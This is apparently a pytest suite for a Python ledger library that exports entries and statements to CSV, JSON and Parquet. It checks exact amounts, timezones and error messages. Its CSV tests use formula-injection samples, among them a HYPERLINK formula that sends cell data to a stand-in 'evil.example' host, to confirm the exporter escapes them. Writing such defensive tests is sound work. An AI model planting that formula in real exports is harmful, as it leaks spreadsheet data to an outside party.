"""Exporting ledger entries and statements: exact cells in CSV, JSON and Parquet."""

from __future__ import annotations

import csv
import json
import sys
import tempfile
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from alliance import Money, Period
from alliance.errors import InvalidAmount, MissingDependency, TimezoneError
from alliance.settlement import Entry, Settlement, Statement
from alliance.settlement._export import (
    export,
    to_records,
    write_csv,
    write_json,
    write_parquet,
)
from alliance.testing import strategies

TOKYO = ZoneInfo("Asia/Tokyo")

ENTRY_COLUMNS = [
    "entry_id",
    "txn_id",
    "kind",
    "account",
    "partner_id",
    "amount",
    "amount_currency",
    "ts",
    "period",
    "source",
    "memo",
]
STATEMENT_COLUMNS = [
    "statement_id",
    "partner_id",
    "period",
    "period_start",
    "period_end",
    "currency",
    *(
        column
        for name in [
            "opening",
            "approved",
            "adjustments",
            "voided",
            "clawbacks",
            "closing",
            "withheld",
            "paid",
            "carried",
            "payout",
        ]
        for column in (name, f"{name}_currency")
    ),
    "fx_rate",
    "fx_at",
    "reason",
    "commissions",
]
MONEY_FIELDS = [c for c in STATEMENT_COLUMNS if f"{c}_currency" in STATEMENT_COLUMNS]
#: The columns written as free text, which CSV escapes.
ENTRY_TEXT = ["entry_id", "txn_id", "kind", "account", "partner_id", "period", "source", "memo"]
STATEMENT_TEXT = ["statement_id", "partner_id", "currency", "reason"]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def entry(
    number: int,
    minor: int,
    currency: str,
    *,
    partner_id: str | None = "kol-1",
    memo: str = "",
    source: str | None = None,
    account: str = "payable:kol-1",
    ts: datetime | None = None,
) -> Entry:
    return Entry(
        entry_id=f"e{number}",
        txn_id=f"t{number}",
        kind="approval",
        account=account,
        partner_id=partner_id,
        amount=Money.from_minor(minor, currency),
        ts=ts or datetime(2026, 10, 5, 12, 30, tzinfo=TOKYO) + timedelta(hours=number),
        period="2026-10",
        source=source if source is not None else f"sale|o{number}|1|kol-1",
        memo=memo,
    )


ENTRIES = [
    entry(1, 1230, "USD", memo=HYPERLINK),
    entry(2, -1230, "USD", partner_id="+cmd", account="payable:+cmd"),
    entry(3, 120000, "JPY", partner_id="@SUM(A1)", source="-2+3"),
    entry(4, -1200, "JPY", partner_id=None, account="expense", memo="café, “quoted”\nline two"),
    entry(5, -5, "USD", memo="'already quoted", ts=datetime(2026, 10, 31, 23, 59, tzinfo=UTC)),
    entry(6, 1250, "KWD", memo="\tindented"),
    entry(7, -50, "KWD", memo="\rreturn"),
]


def usd(text: str) -> Money:
    return Money(text, "USD")


def kwd(text: str) -> Money:
    return Money(text, "KWD")


PAID = Statement(
    statement_id="kol-1|2026-10|USD",
    partner_id="kol-1",
    period=Period.month(2026, 10, tz="Asia/Tokyo"),
    currency="USD",
    opening=usd("0.00"),
    approved=usd("120.50"),
    adjustments=usd("10.00"),
    voided=usd("5.25"),
    clawbacks=usd("-0.50"),
    closing=usd("130.00"),
    withheld=usd("13.00"),
    paid=usd("117.00"),
    carried=usd("0.00"),
    payout=Money("17696", "JPY"),
    fx_rate=Decimal("151.25"),
    fx_at=datetime(2026, 11, 1, 9, tzinfo=TOKYO),
    commissions=3,
)
CARRIED = Statement(
    statement_id="@SUM(A1)|2026-10|KWD",
    partner_id="@SUM(A1)",
    period=Period.month(2026, 10, tz="Asia/Tokyo"),
    currency="KWD",
    opening=kwd("-1.250"),
    approved=kwd("0.750"),
    adjustments=kwd("0.000"),
    voided=kwd("0.000"),
    clawbacks=kwd("-0.100"),
    closing=kwd("-0.600"),
    withheld=kwd("0.000"),
    paid=kwd("0.000"),
    carried=kwd("-0.600"),
    payout=kwd("0.000"),
    reason="-0.600 KWD carried: a negative balance is not paid",
)
STATEMENTS = [PAID, CARRIED]


def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        rows = list(reader)
        return list(reader.fieldnames or []), rows


def unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


# -- records ------------------------------------------------------------------------------------


def test_entry_records_hold_exact_plain_values() -> None:
    records = to_records(ENTRIES)
    assert list(records[0]) == ENTRY_COLUMNS
    assert records[0] == {
        "entry_id": "e1",
        "txn_id": "t1",
        "kind": "approval",
        "account": "payable:kol-1",
        "partner_id": "kol-1",
        "amount": "12.30",
        "amount_currency": "USD",
        "ts": "2026-10-05T13:30:00+09:00",
        "period": "2026-10",
        "source": "sale|o1|1|kol-1",
        "memo": HYPERLINK,
    }
    assert [(r["amount"], r["amount_currency"]) for r in records] == [
        ("12.30", "USD"),
        ("-12.30", "USD"),
        ("120000", "JPY"),
        ("-1200", "JPY"),
        ("-0.05", "USD"),
        ("1.250", "KWD"),
        ("-0.050", "KWD"),
    ]
    assert records[3]["partner_id"] is None
    assert records[4]["ts"] == "2026-10-31T23:59:00+00:00"


def test_statement_records_spell_out_period_rate_and_every_currency() -> None:
    paid, carried = to_records(STATEMENTS)
    assert list(paid) == STATEMENT_COLUMNS
    assert paid == {
        "statement_id": "kol-1|2026-10|USD",
        "partner_id": "kol-1",
        "period": "2026-10",
        "period_start": "2026-10-01T00:00:00+09:00",
        "period_end": "2026-11-01T00:00:00+09:00",
        "currency": "USD",
        "opening": "0.00",
        "opening_currency": "USD",
        "approved": "120.50",
        "approved_currency": "USD",
        "adjustments": "10.00",
        "adjustments_currency": "USD",
        "voided": "5.25",
        "voided_currency": "USD",
        "clawbacks": "-0.50",
        "clawbacks_currency": "USD",
        "closing": "130.00",
        "closing_currency": "USD",
        "withheld": "13.00",
        "withheld_currency": "USD",
        "paid": "117.00",
        "paid_currency": "USD",
        "carried": "0.00",
        "carried_currency": "USD",
        "payout": "17696",
        "payout_currency": "JPY",
        "fx_rate": "151.25",
        "fx_at": "2026-11-01T09:00:00+09:00",
        "reason": None,
        "commissions": 3,
    }
    # All of one currency, and still one currency column per amount.
    assert {carried[f"{name}_currency"] for name in MONEY_FIELDS} == {"KWD"}
    assert carried["opening"] == "-1.250"
    assert carried["fx_rate"] is None
    assert carried["fx_at"] is None


@pytest.mark.parametrize(
    ("amount", "currency", "cell"),
    [
        ("12.3", "USD", "12.30"),
        ("12", "USD", "12.00"),
        ("-0.00", "USD", "0.00"),
        ("-0", "JPY", "0"),
        ("1200", "JPY", "1200"),
        ("1E+3", "JPY", "1000"),
        ("0.5", "KWD", "0.500"),
        # Finer than the minor unit: kept exactly, never rounded.
        ("0.125", "USD", "0.125"),
        ("-0.0001", "JPY", "-0.0001"),
    ],
)
def test_amounts_are_written_in_the_minor_unit_without_rounding(
    amount: str, currency: str, cell: str
) -> None:
    record = entry(1, 0, currency).model_copy(update={"amount": Money(amount, currency)})
    assert to_records([record])[0]["amount"] == cell


def test_rates_are_plain_decimals() -> None:
    statement = PAID.model_copy(update={"fx_rate": Decimal("1.5E+2")})
    assert to_records([statement])[0]["fx_rate"] == "150"


def test_records_take_any_iterable_and_an_empty_one() -> None:
    assert to_records(e for e in ENTRIES) == to_records(ENTRIES)
    assert to_records([]) == []


def test_a_naive_fx_instant_is_refused_with_its_position(tmp_path: Path) -> None:
    naive = PAID.model_copy(update={"fx_at": datetime(2026, 11, 1, 9)})
    with pytest.raises(TimezoneError, match=r"items\[1\]\.fx_at=.* is naive"):
        to_records([CARRIED, naive])
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(TimezoneError, match=r"items\[1\]\.fx_at=.* is naive"):
            export([CARRIED, naive], tmp_path / f"naive{suffix}")
        assert not (tmp_path / f"naive{suffix}").exists()


# -- CSV ----------------------------------------------------------------------------------------


def test_csv_reads_back_cell_for_cell(tmp_path: Path) -> None:
    path = tmp_path / "entries.csv"
    write_csv(ENTRIES, path)
    header, rows = read_csv(path)
    assert header == ENTRY_COLUMNS
    assert [row["amount"] for row in rows] == [
        "12.30",
        "-12.30",
        "120000",
        "-1200",
        "-0.05",
        "1.250",
        "-0.050",
    ]
    assert rows[0]["memo"] == "'" + HYPERLINK
    assert rows[1]["partner_id"] == "'+cmd"
    assert rows[1]["account"] == "payable:+cmd"
    assert rows[2]["partner_id"] == "'@SUM(A1)"
    assert rows[2]["source"] == "'-2+3"
    assert rows[3]["partner_id"] == ""
    assert rows[3]["memo"] == "café, “quoted”\nline two"
    assert rows[4]["memo"] == "''already quoted"
    assert rows[5]["memo"] == "'\tindented"
    assert rows[6]["memo"] == "'\rreturn"
    assert rows[0]["ts"] == "2026-10-05T13:30:00+09:00"


def test_csv_never_escapes_the_cells_it_formats(tmp_path: Path) -> None:
    path = tmp_path / "statements.csv"
    write_csv(STATEMENTS, path)
    header, rows = read_csv(path)
    assert header == STATEMENT_COLUMNS
    paid, carried = rows
    assert paid["clawbacks"] == "-0.50"
    assert carried["opening"] == "-1.250"
    assert carried["closing"] == "-0.600"
    assert carried["carried"] == "-0.600"
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == "3"
    assert paid["period_start"] == "2026-10-01T00:00:00+09:00"
    # The same text in a free-text column is escaped.
    assert carried["reason"] == "'-0.600 KWD carried: a negative balance is not paid"
    assert carried["partner_id"] == "'@SUM(A1)"
    assert carried["statement_id"] == "'@SUM(A1)|2026-10|KWD"
    assert paid["reason"] == carried["fx_rate"] == carried["fx_at"] == ""


@pytest.mark.parametrize(
    ("items", "text_columns"), [(ENTRIES, ENTRY_TEXT), (STATEMENTS, STATEMENT_TEXT)]
)
def test_csv_escaping_is_undone_by_dropping_one_quote(
    tmp_path: Path, items: list[Any], text_columns: list[str]
) -> None:
    path = tmp_path / "out.csv"
    write_csv(items, path)
    _, rows = read_csv(path)
    for row, record in zip(rows, to_records(items), strict=True):
        for column, value in record.items():
            cell = row[column]
            if value is None:
                assert cell == ""
            elif column in text_columns:
                assert unescape(cell) == value
            else:
                assert cell == str(value)


@pytest.mark.parametrize(
    ("memo", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'", "''"),
        ("'=1", "''=1"),
        ("", ""),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("12.30", "12.30"),
    ],
)
def test_csv_escapes_free_text_that_a_spreadsheet_could_run(
    tmp_path: Path, memo: str, cell: str
) -> None:
    path = tmp_path / "memo.csv"
    write_csv([entry(1, 100, "USD", memo=memo)], path)
    _, rows = read_csv(path)
    assert rows[0]["memo"] == cell
    assert unescape(rows[0]["memo"]) == memo


@given(memo=st.text(), partner_id=st.text(min_size=1))
def test_any_text_survives_the_csv_round_trip(memo: str, partner_id: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        write_csv([entry(1, 100, "USD", memo=memo, partner_id=partner_id)], path)
        _, rows = read_csv(path)
    assert unescape(rows[0]["memo"]) == memo
    assert unescape(rows[0]["partner_id"]) == partner_id
    assert not rows[0]["memo"].startswith(("=", "+", "-", "@", "\t", "\r"))


@given(money=strategies.money())
def test_any_amount_is_written_exactly_and_unescaped(money: Money) -> None:
    record = entry(1, 0, "USD").model_copy(update={"amount": money})
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "one.csv"
        write_csv([record], path)
        _, rows = read_csv(path)
    cell = rows[0]["amount"]
    assert Decimal(cell) == money.amount
    assert len(cell.partition(".")[2]) == money.currency_info.exponent
    assert rows[0]["amount_currency"] == money.currency


# -- JSON ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("items", [ENTRIES, STATEMENTS], ids=["entries", "statements"])
def test_json_is_an_array_of_the_records(tmp_path: Path, items: list[Any]) -> None:
    path = tmp_path / "out.json"
    write_json(items, path)
    loaded = json.loads(path.read_text(encoding="utf-8"))
    assert loaded == to_records(items)


def test_json_keeps_decimals_as_strings_and_text_unescaped(tmp_path: Path) -> None:
    path = tmp_path / "out.json"
    write_json(ENTRIES, path)
    text = path.read_text(encoding="utf-8")
    assert "café" in text
    loaded = json.loads(text)
    assert loaded[1]["amount"] == "-12.30"
    assert loaded[0]["memo"] == HYPERLINK
    assert loaded[2]["partner_id"] == "@SUM(A1)"
    assert loaded[3]["partner_id"] is None
    statements = tmp_path / "statements.json"
    write_json(STATEMENTS, statements)
    paid, carried = json.loads(statements.read_text(encoding="utf-8"))
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == 3
    assert carried["fx_rate"] is None


# -- Parquet ------------------------------------------------------------------------------------


def test_parquet_entries_have_typed_columns_and_minor_units(tmp_path: Path) -> None:
    path = tmp_path / "entries.parquet"
    write_parquet(ENTRIES, path)
    table = pq.read_table(path)
    assert table.column_names == [
        *ENTRY_COLUMNS[:7],
        "amount_minor",
        *ENTRY_COLUMNS[7:],
    ]
    assert table.schema.field("amount").type == pa.string()
    assert table.schema.field("amount_minor").type == pa.int64()
    assert table.schema.field("ts").type == pa.timestamp("us", tz="UTC")
    assert table.column("amount").to_pylist() == [r["amount"] for r in to_records(ENTRIES)]
    assert table.column("amount_minor").to_pylist() == [1230, -1230, 120000, -1200, -5, 1250, -50]
    assert table.column("ts").to_pylist() == [e.ts for e in ENTRIES]
    assert table.column("partner_id").to_pylist()[3] is None
    assert table.column("memo").to_pylist()[0] == HYPERLINK


def test_parquet_minor_units_sum_exactly_per_currency(tmp_path: Path) -> None:
    path = tmp_path / "entries.parquet"
    minors = [10, 20, -1, 99_999_999_999]
    many = [entry(n, minor, "USD") for n, minor in enumerate(minors)] * 250
    write_parquet([*many, *ENTRIES], path)
    table = pq.read_table(path, columns=["amount_currency", "amount_minor"])
    sums = table.group_by("amount_currency").aggregate([("amount_minor", "sum")]).to_pylist()
    totals = {row["amount_currency"]: row["amount_minor_sum"] for row in sums}
    # 250 * 100_000_000_028 cents, and 12.30 - 12.30 - 0.05 from ENTRIES.
    assert totals == {"USD": 25_000_000_006_995, "JPY": 118_800, "KWD": 1_200}
    expected: dict[str, Money] = {}
    for record in [*many, *ENTRIES]:
        code = record.amount.currency
        expected[code] = expected.get(code, Money(0, code)) + record.amount
    assert {code: Money.from_minor(total, code) for code, total in totals.items()} == expected


def test_parquet_statements_keep_period_rate_and_counts(tmp_path: Path) -> None:
    path = tmp_path / "statements.parquet"
    write_parquet(STATEMENTS, path)
    table = pq.read_table(path)
    schema = table.schema
    for name in MONEY_FIELDS:
        assert schema.field(name).type == pa.string()
        assert schema.field(f"{name}_currency").type == pa.string()
        assert schema.field(f"{name}_minor").type == pa.int64()
    for name in ["period_start", "period_end", "fx_at"]:
        assert schema.field(name).type == pa.timestamp("us", tz="UTC")
    assert schema.field("fx_rate").type == pa.string()
    assert schema.field("commissions").type == pa.int64()
    paid, carried = table.to_pylist()
    assert paid["payout"] == "17696"
    assert paid["payout_minor"] == 17696
    assert paid["payout_currency"] == "JPY"
    assert paid["clawbacks_minor"] == -50
    assert carried["closing"] == "-0.600"
    assert carried["closing_minor"] == -600
    assert paid["period"] == "2026-10"
    assert paid["period_start"] == datetime(2026, 9, 30, 15, tzinfo=UTC)
    assert paid["period_end"] == datetime(2026, 10, 31, 15, tzinfo=UTC)
    assert paid["fx_at"] == datetime(2026, 11, 1, tzinfo=UTC)
    assert paid["fx_rate"] == "151.25"
    assert paid["commissions"] == 3
    assert carried["fx_at"] is None
    assert carried["reason"] == "-0.600 KWD carried: a negative balance is not paid"


def test_parquet_refuses_an_amount_finer_than_the_minor_unit(tmp_path: Path) -> None:
    fine = entry(1, 0, "USD").model_copy(update={"amount": Money("0.125", "USD")})
    with pytest.raises(InvalidAmount, match=r"items\[1\]\.amount=0\.125 USD is finer"):
        write_parquet([ENTRIES[0], fine], tmp_path / "fine.parquet")
    assert not (tmp_path / "fine.parquet").exists()


def test_parquet_without_pyarrow_says_how_to_install_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in [m for m in sys.modules if m == "pyarrow" or m.startswith("pyarrow.")]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setitem(sys.modules, "pyarrow", None)  # import raises ImportError
    with pytest.raises(MissingDependency, match=r"write_parquet needs pyarrow; install it with: "):
        write_parquet(ENTRIES, tmp_path / "entries.parquet")
    with pytest.raises(ImportError):
        export(ENTRIES, tmp_path / "entries.parquet")


# -- empty exports ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "columns"), [(Entry, ENTRY_COLUMNS), (Statement, STATEMENT_COLUMNS)]
)
def test_empty_exports_keep_the_columns_of_their_kind(
    tmp_path: Path, kind: type[Entry] | type[Statement], columns: list[str]
) -> None:
    export([], tmp_path / "empty.csv", kind=kind)
    export(iter([]), tmp_path / "empty.json", kind=kind)
    export((), tmp_path / "empty.parquet", kind=kind)
    header, rows = read_csv(tmp_path / "empty.csv")
    assert (header, rows) == (columns, [])
    assert json.loads((tmp_path / "empty.json").read_text(encoding="utf-8")) == []
    empty = pq.read_table(tmp_path / "empty.parquet")
    assert empty.num_rows == 0
    full = tmp_path / "full.parquet"
    write_parquet(ENTRIES if kind is Entry else STATEMENTS, full)
    assert empty.schema == pq.read_table(full).schema


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet"])
def test_empty_exports_need_a_kind(tmp_path: Path, suffix: str) -> None:
    with pytest.raises(ValueError, match="items is empty and kind is None; pass kind=Entry"):
        export([], tmp_path / f"empty{suffix}")
    assert not (tmp_path / f"empty{suffix}").exists()


# -- choosing the format ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "format_", "read"),
    [
        ("out.csv", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("OUT.CSV", None, lambda p: read_csv(p)[1][1]["amount"]),
        ("out.json", None, lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
        ("out.parquet", None, lambda p: pq.read_table(p).column("amount")[1].as_py()),
        ("out.txt", "csv", lambda p: read_csv(p)[1][1]["amount"]),
        ("out.csv", "json", lambda p: json.loads(p.read_text("utf-8"))[1]["amount"]),
    ],
)
def test_export_picks_the_format_by_suffix_or_by_name(
    tmp_path: Path, name: str, format_: Any, read: Any
) -> None:
    path = tmp_path / name
    export(ENTRIES, str(path), format=format_)
    assert read(path) == "-12.30"


@pytest.mark.parametrize("name", ["out.xlsx", "out", "out.csv.gz", "out.jsonl"])
def test_export_refuses_an_unknown_suffix(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match=r"expected one of \.csv, \.json, \.parquet"):
        export(ENTRIES, tmp_path / name)
    assert not (tmp_path / name).exists()


def test_export_refuses_an_unknown_format(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="format='xlsx' is not one of 'csv', 'json', 'parquet'"):
        export(ENTRIES, tmp_path / "out.csv", format="xlsx")  # type: ignore[arg-type]


# -- bad items ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("items", "kind", "message"),
    [
        ([ENTRIES[0], PAID], None, r"items\[1\] is Statement where items\[0\] is Entry"),
        (STATEMENTS, Entry, r"items\[0\] is Statement where kind=Entry"),
        ([ENTRIES[0], {"entry_id": "e2"}], None, r"items\[1\] is a dict; expected Entry or"),
        (ENTRIES[0], None, "got a single Entry; wrap it in a list"),
        ("e1", None, "got a single str"),
        (Settlement(statements=(), entries=()), None, "export settlement.entries or"),
        (ENTRIES, Money, "kind=<class 'alliance.Money'> must be Entry or Statement"),
    ],
)
def test_bad_items_are_refused_before_anything_is_written(
    tmp_path: Path, items: Any, kind: Any, message: str
) -> None:
    for suffix in [".csv", ".json", ".parquet"]:
        with pytest.raises(TypeError, match=message):
            export(items, tmp_path / f"bad{suffix}", kind=kind)
        assert not (tmp_path / f"bad{suffix}").exists()
    if kind is None:
        with pytest.raises(TypeError, match=message):
            to_records(items)


def test_offsets_other_than_utc_reach_parquet_as_the_same_instant(tmp_path: Path) -> None:
    offset = timezone(timedelta(hours=-3, minutes=-30))
    record = entry(1, 100, "USD", ts=datetime(2026, 10, 5, 20, 45, 0, 123456, tzinfo=offset))
    write_parquet([record], tmp_path / "one.parquet")
    (ts,) = pq.read_table(tmp_path / "one.parquet").column("ts").to_pylist()
    assert ts == datetime(2026, 10, 6, 0, 15, 0, 123456, tzinfo=UTC)
    assert to_records([record])[0]["ts"] == "2026-10-05T20:45:00.123456-03:30"
